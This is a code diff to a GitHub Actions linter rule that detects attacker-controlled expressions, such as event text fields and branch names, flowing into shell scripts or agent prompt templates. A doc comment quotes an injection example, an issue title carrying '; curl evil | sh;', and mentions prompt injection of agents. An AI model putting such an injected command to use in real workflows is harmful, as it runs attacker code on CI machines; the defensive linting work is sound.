@@ -4,7 +4,7 @@ import { callsStageWorkflow, stepAction as classifyStep } from '../../workflow/b
 import type { ValueMap, WorkflowValue } from '../../workflow/index.js';
 import { MAX_COMPOSITE_DEPTH } from '../../workflow/plan.js';
 import type { LintContext } from '../context.js';
-import { pathStartsWith } from '../expression-facts.js';
+import { eventFieldMayHoldText } from '../event-text.js';
 import type { LintFinding } from '../finding.js';
 import { expressionsIn, SourceLocator } from '../locate.js';
 import { batonStepIds, jobOutputsCarrying, stepAction } from '../workflow-facts.js';
@@ -13,22 +13,25 @@ import { batonStepIds, jobOutputsCarrying, stepAction } from '../workflow-facts.
  * `untrusted-expression`: GitHub replaces `${{ }}` with its value before a script or an action sees the
  * text. Interpolated into a `run:` script, an issue title like `"; curl evil | sh; "` becomes shell; into a
  * prompt template, it becomes template and instructions before baton can fence it. Attacker-controlled
- * values are the event payload (`github.event.*`), `github.head_ref` (a branch name anyone can choose), and
- * the `data` a handoff carries (an agent wrote it, perhaps after reading attacker text).
+ * values are the text fields of the event payload (`github.event.*`, see event-text.ts), `github.head_ref`
+ * (a branch name anyone can choose), and the `data` a handoff carries (an agent wrote it, perhaps after
+ * reading attacker text). Only a path whose value can reach the expression's result counts: pasted,
+ * `contains(github.event.issue.title, 'x')` is `true` or `false`, whatever the title says.
  */
 export function checkUntrustedExpressions(context: LintContext): LintFinding[] {
   const { workflow, expressions } = context;
+  const triggers = new Set(Object.keys(workflow.on));
   const dataOutputs = new Map(
     workflow.jobs.map((job) => [job.id.toLowerCase(), jobOutputsCarrying(job, OUTPUTS.data, expressions)]),
   );
   const findings: LintFinding[] = [];
   for (const job of workflow.jobs) {
-    const dataSteps = batonStepIds(job);
+    const sources: Sources = { dataSteps: batonStepIds(job), dataOutputs, triggers };
     // What checks a value against the env maps in force where it is written.
     const checkerFor = (envs: ValueMap[]) => {
-      const taintedEnv = taintedNames(envs, dataSteps, dataOutputs, expressions);
+      const taintedEnv = taintedNames(envs, sources, expressions);
       const isUntrusted = (path: string[]) =>
-        untrustedPath(path, dataSteps, dataOutputs) || (path[0] === 'env' && taintedEnv.has(path[1] ?? ''));
+        untrustedPath(path, sources) || (path[0] === 'env' && taintedEnv.has(path[1] ?? ''));
       return (value: WorkflowValue | undefined | null, kind: Sink) => {
         if (value) findings.push(...findingsIn(value, kind, isUntrusted, context));
       };
@@ -43,14 +46,9 @@ export function checkUntrustedExpressions(context: LintContext): LintFinding[] {
       // given untrusted text carries it in.
       const local = classifyStep(step);
       if (local.kind === 'local') {
-        const taintedEnv = taintedNames(
-          [workflow.env, job.env, step.env],
-          dataSteps,
-          dataOutputs,
-          expressions,
-        );
+        const taintedEnv = taintedNames([workflow.env, job.env, step.env], sources, expressions);
         const isUntrusted = (path: string[]) =>
-          untrustedPath(path, dataSteps, dataOutputs) || (path[0] === 'env' && taintedEnv.has(path[1] ?? ''));
+          untrustedPath(path, sources) || (path[0] === 'env' && taintedEnv.has(path[1] ?? ''));
         findings.push(
           ...checkLocalAction(local.path, taintedInputs(step.with, isUntrusted, expressions), context, 0),
         );
@@ -70,7 +68,7 @@ function taintedInputs(
 ): Set<string> {
   const names = new Set<string>();
   for (const [name, value] of Object.entries(inputs)) {
-    if (value.expression !== null && expressions.facts(value.expression).paths.some(isUntrusted))
+    if (value.expression !== null && expressions.facts(value.expression).resultPaths.some(isUntrusted))
       names.add(name.toLowerCase());
   }
   return names;
@@ -89,18 +87,20 @@ function checkLocalAction(
   const action = depth > MAX_COMPOSITE_DEPTH ? null : (context.loadAction?.(path) ?? null);
   if (action?.kind !== 'composite') return [];
   const inAction: LintContext = { ...context, file: action.file, locator: new SourceLocator(action.source) };
-  const none = new Set<string>();
-  const noOutputs = new Map<string, Set<string>>();
+  const sources: Sources = {
+    dataSteps: new Set(),
+    dataOutputs: new Map(),
+    triggers: new Set(Object.keys(context.workflow.on)),
+  };
   const isUntrustedHere = (path: string[]) =>
-    untrustedPath(path, none, noOutputs) ||
-    (path[0] === 'inputs' && tainted.has((path[1] ?? '').toLowerCase()));
+    untrustedPath(path, sources) || (path[0] === 'inputs' && tainted.has((path[1] ?? '').toLowerCase()));
   const findings: LintFinding[] = [];
   for (const step of action.steps) {
     const taintedEnv = new Set<string>();
     for (const [name, value] of Object.entries(step.env)) {
       if (
         value.expression !== null &&
-        context.expressions.facts(value.expression).paths.some(isUntrustedHere)
+        context.expressions.facts(value.expression).resultPaths.some(isUntrustedHere)
       )
         taintedEnv.add(name.toLowerCase());
     }
@@ -144,7 +144,7 @@ function findingsIn(
 ): LintFinding[] {
   const findings: LintFinding[] = [];
   for (const { expression, offset } of expressionsIn(value.text)) {
-    if (!expressions.facts(expression).paths.some(isUntrusted)) continue;
+    if (!expressions.facts(expression).resultPaths.some(isUntrusted)) continue;
     findings.push({
       rule: 'untrusted-expression',
       file,
@@ -171,18 +171,22 @@ function advice(shown: string, sink: Sink): string {
   }
 }
 
-const UNTRUSTED_PREFIXES = [
-  ['github', 'event'],
-  ['github', 'head_ref'],
-];
+/** Where untrusted text comes from, for one job. */
+interface Sources {
+  /** Ids (lower case) of the job's steps whose `data` output carries a handoff's. */
+  dataSteps: ReadonlySet<string>;
+  /** Per job id (lower case), its outputs carrying a handoff's `data`. */
+  dataOutputs: ReadonlyMap<string, ReadonlySet<string>>;
+  /** The workflow's `on:` events. */
+  triggers: ReadonlySet<string>;
+}
 
-function untrustedPath(
-  path: string[],
-  dataSteps: ReadonlySet<string>,
-  dataOutputs: ReadonlyMap<string, ReadonlySet<string>>,
-): boolean {
-  if (path[0] === 'github' && path.length === 1) return true; // toJSON(github) carries the event
-  if (UNTRUSTED_PREFIXES.some((prefix) => pathStartsWith(path, prefix))) return true;
+function untrustedPath(path: string[], { dataSteps, dataOutputs, triggers }: Sources): boolean {
+  if (path[0] === 'github') {
+    if (path.length === 1) return true; // toJSON(github) carries the event
+    if (path[1] === 'head_ref' || path[1] === '*') return true;
+    if (path[1] === 'event') return eventFieldMayHoldText(path.slice(2), triggers);
+  }
   const [context, id, outputs, name] = path;
   if (outputs !== 'outputs' || id === undefined || name === undefined) return false;
   if (context === 'steps') return name === OUTPUTS.data && (dataSteps.has(id) || id === '*');
@@ -191,17 +195,12 @@ function untrustedPath(
 }
 
 /** Env names (any level visible to the step) whose value is itself untrusted, one hop deep. */
-function taintedNames(
-  maps: ValueMap[],
-  dataSteps: ReadonlySet<string>,
-  dataOutputs: ReadonlyMap<string, ReadonlySet<string>>,
-  expressions: ExpressionEngine,
-): Set<string> {
+function taintedNames(maps: ValueMap[], sources: Sources, expressions: ExpressionEngine): Set<string> {
   const names = new Set<string>();
   for (const map of maps) {
     for (const [name, value] of Object.entries(map)) {
       if (value.expression === null) continue;
-      if (expressions.facts(value.expression).paths.some((p) => untrustedPath(p, dataSteps, dataOutputs))) {
+      if (expressions.facts(value.expression).resultPaths.some((p) => untrustedPath(p, sources))) {
         names.add(name.toLowerCase());
       }
     }
